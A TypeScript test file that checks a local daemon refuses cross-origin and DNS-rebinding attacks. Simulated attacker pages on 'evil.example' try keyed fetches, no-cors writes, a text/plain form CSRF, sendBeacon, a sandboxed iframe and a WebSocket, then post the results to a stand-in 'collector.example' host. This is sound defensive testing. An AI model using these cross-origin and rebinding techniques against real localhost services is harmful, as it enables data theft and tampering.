/** Pages in a browser that know the daemon's address, and even its key: they read nothing and write nothing. */
import { expect, test } from 'vitest'
import { request, seedDream, sendRaw, startTestDaemon, type TestDaemon } from '../http/daemon.ts'
import { openSite, visit } from './browser.ts'
import { browser } from './installed-browser.ts'

/** What the attacker's page does; `attempts` is a map from a name to an async function of the page. */
const attack = (attempts: Record<string, string>, reportTo: string): string => `
  const results = {}
  const attempts = { ${Object.entries(attempts)
    .map(([name, code]) => `${JSON.stringify(name)}: async () => { ${code} }`)
    .join(',')} }
  for (const [name, attempt] of Object.entries(attempts)) {
    const late = new Promise((resolve) => setTimeout(() => resolve('nothing came'), 30_000))
    results[name] = String(await Promise.race([attempt(), late]).catch((error) => 'blocked: ' + error.message))
  }
  await fetch(${JSON.stringify(reportTo)}, { method: 'POST', body: JSON.stringify(results) })
`

/** Runs where a browser is installed, and must run where BRAIN_TEST_BROWSER says that one is. */
const realBrowser = test.skipIf(browser === undefined && !process.env.BRAIN_TEST_BROWSER)

async function seeded(options: Parameters<typeof startTestDaemon>[0] = {}): Promise<TestDaemon> {
  const daemon = await startTestDaemon(options)
  await seedDream(daemon.brain.store)
  return daemon
}

interface Logged {
  readonly method: string
  readonly status: number
}

const requests = (daemon: TestDaemon): Logged[] =>
  daemon
    .log()
    .split('\n')
    .filter((line) => line.includes('request_id'))
    .map((line) => JSON.parse(line))

async function expectUntouched(daemon: TestDaemon, atLeast: number): Promise<void> {
  const seen = requests(daemon)
  expect(seen.length).toBeGreaterThanOrEqual(atLeast)
  expect(seen.filter(({ status }) => status !== 403)).toEqual([])
  expect(await daemon.brain.store.memories.count('default')).toBe(1)
  expect(await daemon.brain.store.dreams.countUnread('default')).toBe(1)
}

const read = (expression: string): string =>
  `const reply = await ${expression}; return reply.status + ' ' + (await reply.text())`

realBrowser('a page of another origin in a real browser reads nothing and writes nothing', async () => {
  const daemon = await seeded()
  const { url, key } = daemon
  const headers = `{ 'x-svc-key': ${JSON.stringify(key)}, 'content-type': 'application/json' }`
  const body = JSON.stringify(JSON.stringify({ text: 'planted' }))
  const collector = await openSite('')
  const site = await openSite(
    attack(
      {
        'read with the key': read(`fetch('${url}/v1/dreams', { headers: ${headers} })`),
        'write with the key': read(
          `fetch('${url}/v1/remember', { method: 'POST', headers: ${headers}, body: ${body} })`,
        ),
        'plain write': read(
          `fetch('${url}/v1/remember', { method: 'POST', mode: 'no-cors', body: ${body} })`,
        ),
        'plain read': read(`fetch('${url}/health', { mode: 'no-cors' })`),
        'read aloud': read(`fetch('${url}/v1/openapi.json')`),
        tools: read(`fetch('${url}/mcp', { method: 'POST', headers: ${headers}, body: '{}' })`),
        beacon: `navigator.sendBeacon('${url}/v1/remember', ${body}); return 'sent'`,
        image: `return new Promise((resolve) => { const image = new Image(); image.onload = () => resolve('loaded'); image.onerror = () => resolve('no image'); image.src = '${url}/health' })`,
        script: `return new Promise((resolve) => { const script = document.createElement('script'); script.onload = () => resolve('loaded'); script.onerror = () => resolve('no script'); script.src = '${url}/v1/openapi.json'; document.body.append(script) })`,
        form: `const frame = document.createElement('iframe'); frame.name = 'target'; document.body.append(frame); const form = document.createElement('form'); form.target = 'target'; form.method = 'POST'; form.enctype = 'text/plain'; form.action = '${url}/v1/remember'; document.body.append(form); form.submit(); await new Promise((resolve) => { frame.onload = resolve }); return 'sent'`,
        sandbox: `const frame = document.createElement('iframe'); frame.sandbox = 'allow-scripts'; frame.srcdoc = "<script>fetch('${url}/health').then(() => parent.postMessage('read', '*'), () => parent.postMessage('blocked', '*'))</" + "script>"; const said = new Promise((resolve) => { window.onmessage = (message) => resolve(message.data) }); document.body.append(frame); return said`,
        socket: `return new Promise((resolve) => { const socket = new WebSocket('${url.replace('http', 'ws')}/mcp'); socket.onopen = () => resolve('open'); socket.onerror = () => resolve('no socket') })`,
      },
      `http://collector.example:${collector.port}/`,
    ),
  )
  visit(`http://evil.example:${site.port}/`)
  const results = await collector.reported
  // An opaque answer has no status and no text to read.
  expect(results).toEqual({
    'read with the key': 'blocked: Failed to fetch',
    'write with the key': 'blocked: Failed to fetch',
    'plain write': '0 ',
    'plain read': '0 ',
    'read aloud': 'blocked: Failed to fetch',
    tools: 'blocked: Failed to fetch',
    beacon: 'sent',
    image: 'no image',
    script: 'no script',
    form: 'sent',
    sandbox: 'blocked',
    socket: 'no socket',
  })
  await expectUntouched(daemon, 10)
})

realBrowser(
  'a page under a name that was rebound to this machine reads nothing and writes nothing',
  async () => {
    const collector = await openSite('')
    const waiting = `
    for (;;) {
      const reply = await fetch('/v1/openapi.json').catch(() => undefined)
      if (reply && reply.headers.get('x-request-id')) break
      await new Promise((resolve) => setTimeout(resolve, 50))
    }
  `
    const attempts = {
      document: read(`fetch('/v1/openapi.json')`),
      health: read(`fetch('/health')`),
      dreams: read(`fetch('/v1/dreams', { headers: { 'x-svc-key': 'any' } })`),
      write: read(
        `fetch('/v1/remember', { method: 'POST', headers: { 'x-svc-key': 'any', 'content-type': 'application/json' }, body: '{"text":"planted"}' })`,
      ),
    }
    const site = await openSite(waiting + attack(attempts, `http://collector.example:${collector.port}/`))
    visit(`http://rebound.example:${site.port}/`)
    await site.visited
    // The name and port that served the page are the daemon's from now on: to the browser it is all one origin.
    await site.close()
    const daemon = await seeded({ port: site.port })
    const results = await collector.reported
    const refused = '403 {"error":"host not allowed"}'
    expect(results).toEqual({ document: refused, health: refused, dreams: refused, write: refused })
    await expectUntouched(daemon, 5)
  },
)

/** What Chromium sends for each way a page can call, recorded from it: the same holds where there is no browser. */
const recorded: Readonly<Record<string, readonly [line: string, ...headers: string[]]>> = {
  'a preflight': [
    'OPTIONS /v1/dreams',
    'Origin: http://evil.example',
    'Access-Control-Request-Method: GET',
    'Access-Control-Request-Headers: x-svc-key',
    'Sec-Fetch-Mode: cors',
    'Sec-Fetch-Site: cross-site',
    'Sec-Fetch-Dest: empty',
  ],
  'a plain POST': [
    'POST /v1/remember',
    'Origin: http://evil.example',
    'Content-Type: text/plain;charset=UTF-8',
    'Sec-Fetch-Site: cross-site',
    'Sec-Fetch-Mode: no-cors',
    'Sec-Fetch-Dest: empty',
  ],
  'a plain GET': [
    'GET /health',
    'Sec-Fetch-Site: cross-site',
    'Sec-Fetch-Mode: no-cors',
    'Sec-Fetch-Dest: empty',
  ],
  'an image': [
    'GET /health',
    'Sec-Fetch-Site: cross-site',
    'Sec-Fetch-Mode: no-cors',
    'Sec-Fetch-Dest: image',
  ],
  'a form': [
    'POST /v1/remember',
    'Origin: http://evil.example',
    'Content-Type: text/plain',
    'Sec-Fetch-Site: cross-site',
    'Sec-Fetch-Mode: navigate',
    'Sec-Fetch-Dest: iframe',
  ],
  'a sandboxed page': [
    'GET /health',
    'Origin: null',
    'Sec-Fetch-Site: cross-site',
    'Sec-Fetch-Mode: cors',
    'Sec-Fetch-Dest: empty',
  ],
  'a socket': [
    'GET /mcp',
    'Origin: http://evil.example',
    'Connection: Upgrade',
    'Upgrade: websocket',
    'Sec-WebSocket-Version: 13',
    'Sec-WebSocket-Key: x3JJHMbDL1EzLkh9GBhXDw==',
  ],
}

test('what a browser sends for a page of another origin is refused, way by way', async () => {
  const daemon = await seeded()
  for (const [way, [line, ...headers]] of Object.entries(recorded)) {
    const reply = await sendRaw(
      daemon.port,
      request(line, [`Host: 127.0.0.1:${daemon.port}`, `x-svc-key: ${daemon.key}`, ...headers]),
    )
    expect(reply, way).toMatchObject({ status: 403, body: { error: 'origin not allowed' } })
    expect(
      [...reply.headers.keys()].filter((name) => name.startsWith('access-control')),
      way,
    ).toEqual([])
  }
  await expectUntouched(daemon, Object.keys(recorded).length)
})
